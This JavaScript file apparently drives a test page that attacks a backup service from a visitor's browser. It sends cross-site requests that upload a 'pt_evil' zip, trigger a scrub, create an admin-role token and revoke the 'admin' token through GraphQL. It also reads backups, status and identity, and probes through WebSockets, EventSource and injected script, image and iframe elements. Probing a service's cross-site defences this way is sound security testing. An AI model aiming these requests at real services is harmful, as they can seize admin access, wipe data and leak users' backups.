// The script of a page that attacks a service from the browser of someone who may use it. It sends all that a page can send, and keeps
// what it could read of the answers.

/**
 * @param {string} service its origin, as the page knows it
 * @param {{ id: number, fileName: string, zip: string, token: string }} loot what the attacker is given: the id of a stored backup, a
 *   good zip of `pt_evil` in base64, and a token that a service with tokens lets in
 * @returns {Promise<{ [attack: string]: string }>} what could be read: 'nothing', or the status and the text
 */
async function attackByRequests(service, { id, fileName, zip, token }) {
  const query = text => JSON.stringify({ query: text });
  const makeToken = query('mutation { createToken(name: "evil", role: admin) { text } }');
  const revokeToken = query('mutation { revokeToken(name: "admin") { name } }');
  const form = () => {
    const form = new FormData();
    form.append('file', new Blob([Uint8Array.fromBase64(zip)]), fileName);
    return form;
  };
  const headers = { authorization: `Bearer ${token}` };
  const json = { 'content-type': 'application/json' };
  const simple = { method: 'POST', mode: 'no-cors' };
  const attacks = {
    'an upload': ['/pt_evil', { ...simple, body: form() }],
    'a scrub': ['/-/scrub', simple],
    'GraphQL by POST': ['/graphql', { ...simple, body: query('{ backups { nodes { fileName } } }') }],
    'a new token': ['/graphql', { ...simple, body: makeToken }],
    'the end of a token': ['/graphql', { ...simple, body: revokeToken }],
    'GraphQL by GET': ['/graphql?query={backups{nodes{fileName}}}', {}],
    'the list': ['/', {}],
    'a history': ['/pt_secret', {}],
    'a download': [`/${id}/download`, {}],
    'a manifest': [`/${id}/manifest`, {}],
    'the state': ['/-/status', {}],
    'who it is': ['/-/whoami', {}],
    // About these a browser asks the service first.
    'the list, with a token': ['/', { headers }],
    'a download, with a token': [`/${id}/download`, { headers }],
    'an upload, with a token': ['/pt_evil', { method: 'POST', headers, body: form() }],
    'GraphQL as JSON': ['/graphql', { method: 'POST', headers: json, body: query('{__typename}') }],
    'a new token, with a token': ['/graphql', { method: 'POST', headers: { ...json, ...headers }, body: makeToken }],
    'a scrub by a method that no form has': ['/-/scrub', { method: 'PUT' }],
  };
  const read = {};
  for (const [attack, [path, init]] of Object.entries(attacks)) read[attack] = await textOf(service + path, init);
  return read;
}

/** @returns {Promise<{ [attack: string]: string }>} of what is no plain request: 'nothing', or what was seen */
async function attackByOtherWays(service, id) {
  const subscription = `/graphql?query=${encodeURIComponent('subscription { backupReceived { fileName } }')}`;
  return {
    'a subscription': await firstOf(new EventSource(service + subscription), 'open'),
    'a WebSocket': await firstOf(
      new WebSocket(`${service.replace('http', 'ws')}/graphql`, 'graphql-transport-ws'),
      'open',
    ),
    'a script': await firstOf(element('script', `${service}/${id}/manifest`), 'load'),
    'a style sheet': await firstOf(element('link', `${service}/`), 'load'),
    'an image that asks': await firstOf(element('img', `${service}/graphql?query={__typename}`), 'load'),
    'a frame': await textOfFrame(`${service}/`),
    'a frame with GraphiQL': await textOfFrame(`${service}/graphql`),
  };
}

async function textOf(url, init) {
  try {
    const response = await fetch(url, init);
    return response.type === 'opaque' ? 'nothing' : `${response.status} ${await response.text()}`;
  } catch {
    return 'nothing';
  }
}

/** What it is only closes itself when it fails, and some try again for ever. */
function firstOf(target, success) {
  return new Promise(resolve => {
    target.addEventListener(success, () => resolve(success));
    target.addEventListener('error', () => resolve('nothing'));
  }).finally(() => target.close?.());
}

function element(name, url) {
  const made = document.createElement(name);
  if (name === 'link') Object.assign(made, { rel: 'stylesheet', href: url });
  else Object.assign(made, { src: url, referrerPolicy: 'no-referrer' });
  document.body.append(made);
  return made;
}

async function textOfFrame(url) {
  const frame = element('iframe', url);
  await new Promise(resolve => frame.addEventListener('load', resolve));
  try {
    return frame.contentDocument?.body.innerText || 'nothing';
  } catch {
    return 'nothing';
  }
}

Object.assign(globalThis, { attackByRequests, attackByOtherWays });
